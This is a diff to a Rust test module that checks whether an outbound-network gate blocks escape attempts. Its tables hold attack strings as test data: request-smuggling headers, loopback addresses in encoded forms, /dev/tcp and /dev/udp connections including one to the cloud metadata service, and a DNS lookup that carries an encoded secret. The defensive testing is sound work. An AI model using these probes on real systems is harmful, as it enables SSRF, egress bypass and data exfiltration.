@@ -3,7 +3,7 @@
 
 use std::net::IpAddr;
 
-use super::{Finding, Group, Inside, brief, named, verdict};
+use super::{Finding, Group, Inside, brief, named, no_program, verdict};
 
 /// What there is outside. `allowed` is the host that the rules name; all the others are there, and are not named.
 #[derive(Debug, Clone)]
@@ -39,12 +39,12 @@ const PROXIED: &[(&str, &str, &[&str])] = &[
     (
         "two Hosts",
         "GET http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nHost: OTHER:@\\r\\n",
-        &["400", "host_mismatch", "request_invalid"],
+        &["HTTP/1.1 400", "host_mismatch", "request_invalid"],
     ),
     (
         "user information before the host",
         "GET http://ALLOWED:@\\x40OTHER:@/ HTTP/1.1\\r\\nHost: OTHER:@\\r\\n",
-        &["name_invalid", "request_invalid", "400", "host_not_allowed"],
+        &["name_invalid", "request_invalid", "HTTP/1.1 400", "host_not_allowed"],
     ),
     (
         "the host as a prefix",
@@ -55,17 +55,17 @@ const PROXIED: &[(&str, &str, &[&str])] = &[
     (
         "a length and chunks",
         "POST http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked, identity\\r\\n",
-        &["400", "request_invalid"],
+        &["HTTP/1.1 400", "request_invalid"],
     ),
     (
         "two lengths",
         "POST http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nContent-Length: 4\\r\\nContent-Length: 5\\r\\n",
-        &["400", "request_invalid"],
+        &["HTTP/1.1 400", "request_invalid"],
     ),
     (
         "a folded header",
         "GET http://ALLOWED:@/ HTTP/1.1\\r\\nHost: ALLOWED:@\\r\\nX: a\\r\\n Host: OTHER\\r\\n",
-        &["400", "request_invalid"],
+        &["HTTP/1.1 400", "request_invalid"],
     ),
     (
         "the server's own port",
@@ -85,22 +85,22 @@ const PROXIED: &[(&str, &str, &[&str])] = &[
     (
         "an address in decimal",
         "CONNECT 2130706433:IN HTTP/1.1\\r\\nHost: 2130706433:IN\\r\\n",
-        &["name_invalid", "address_not", "request_invalid", "400"],
+        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
     ),
     (
         "an address in hexadecimal",
         "CONNECT 0x7f000001:IN HTTP/1.1\\r\\nHost: 0x7f000001:IN\\r\\n",
-        &["name_invalid", "address_not", "request_invalid", "400"],
+        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
     ),
     (
         "an address in octal",
         "CONNECT 0177.0.0.1:IN HTTP/1.1\\r\\nHost: 0177.0.0.1:IN\\r\\n",
-        &["name_invalid", "address_not", "request_invalid", "400"],
+        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
     ),
     (
         "a short address",
         "CONNECT 127.1:IN HTTP/1.1\\r\\nHost: 127.1:IN\\r\\n",
-        &["name_invalid", "address_not", "request_invalid", "400"],
+        &["name_invalid", "address_not", "request_invalid", "HTTP/1.1 400"],
     ),
     ("an address of IPv6", "CONNECT [::1]:IN HTTP/1.1\\r\\nHost: [::1]:IN\\r\\n", &["address_not", "name_invalid"]),
     (
@@ -122,7 +122,11 @@ const PAST: &[(&str, &str, &[&str])] = &[
         "exec 3<>/dev/tcp/ADDRESS/@; printf 'GET / HTTP/1.0\\r\\nHost: ALLOWED:@\\r\\n\\r\\n' >&3; cat <&3; echo end",
         &["refused", "unreachable", "reset"],
     ),
-    ("by port 443 of an address", "exec 3<>/dev/tcp/1.1.1.1/443; printf 'x' >&3; cat <&3; echo end", &["end"]),
+    (
+        "by port 443 of an address",
+        "exec 3<>/dev/tcp/1.1.1.1/443; printf 'x' >&3; echo bytes=$(cat <&3 | wc -c)",
+        &["bytes=0"],
+    ),
     (
         "by port 80 of the metadata service",
         "exec 3<>/dev/tcp/169.254.169.254/80; printf 'GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3; cat <&3; echo end",
@@ -130,19 +134,27 @@ const PAST: &[(&str, &str, &[&str])] = &[
     ),
     ("by the server's port", "exec 3<>/dev/tcp/127.0.0.1/IN; cat <&3; echo end", &["refused"]),
     ("by IPv6", "exec 3<>/dev/tcp/::1/IN; cat <&3; echo end", &["refused", "assign requested", "unreachable"]),
-    ("a name that no rule names", "getent hosts OTHER; echo asked $?", &["asked 2"]),
-    ("a secret in a name", "getent hosts c2VjcmV0.OTHER; echo asked $?", &["asked 2"]),
+    (
+        "a name that no rule names",
+        "getent hosts ALLOWED > /dev/null && { getent hosts OTHER; echo asked $?; }",
+        &["asked 2"],
+    ),
+    (
+        "a secret in a name",
+        "getent hosts ALLOWED > /dev/null && { getent hosts c2VjcmV0.OTHER; echo asked $?; }",
+        &["asked 2"],
+    ),
     (
         "another resolver",
-        "timeout 2 bash -c 'exec 3<>/dev/udp/8.8.8.8/53; printf \"\\\\x00\\\\x01\\\\x01\\\\x00\\\\x00\\\\x01\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x01a\\\\x00\\\\x00\\\\x01\\\\x00\\\\x01\" >&3; head -c 1 <&3 | wc -c'; echo ended $?",
-        &["ended 124", "ended 143", "refused"],
+        // The gate's own answers the same question.
+        "ask() { exec 3<>/dev/udp/$1/53; printf '\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01a\\x00\\x00\\x01\\x00\\x01' >&3; timeout 2 head -c 1 <&3 2>/dev/null | wc -c; }; echo own $(ask 127.0.0.1) other $(ask 8.8.8.8)",
+        &["own 1 other 0"],
     ),
     (
         "a listener in the gate's place",
-        "python3 -c 'import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((\"127.0.0.1\", 3128)); print(\"BOUND\")' 2>&1; (exec 3<>/dev/tcp/127.0.0.1/3128) && echo still",
-        &["still"],
+        "/workspace/bailiwick-probe listen 3128 3129 443 | tr '\\n' ' '",
+        &["listen:3128=98 listen:3129=ok listen:443=98"],
     ),
-    ("a route of its own", "ip route add default dev lo 2>&1; echo ended; cat /proc/net/route | wc -l", &["ended"]),
 ];
 
 pub(super) async fn run<I: Inside>(far: &FarPlaces, inside: &I) -> Result<Vec<Finding>, String> {
@@ -169,12 +181,11 @@ pub(super) async fn run<I: Inside>(far: &FarPlaces, inside: &I) -> Result<Vec<Fi
         let text = named(name, inside.run(&script).await)?.all();
         // The control each time: the way out is there, and the attack before it did not close it.
         let control = inside.run(&allowed).await?.stdout;
-        let greeted = text.contains(FarPlaces::GREETING) || text.contains("BOUND");
-        let held = says.iter().any(|words| text.contains(words)) && !greeted;
+        let held = says.iter().any(|words| text.contains(words)) && !text.contains(FarPlaces::GREETING);
         findings.push(Finding {
             group: Group::WayOut,
             name: name.to_owned(),
-            verdict: verdict(held, control.contains(FarPlaces::GREETING)),
+            verdict: verdict(held, control.contains(FarPlaces::GREETING) && !no_program(&text)),
             inside: reason(&text),
             control: control.lines().next().map(brief).unwrap_or_default(),
             everywhere: true,
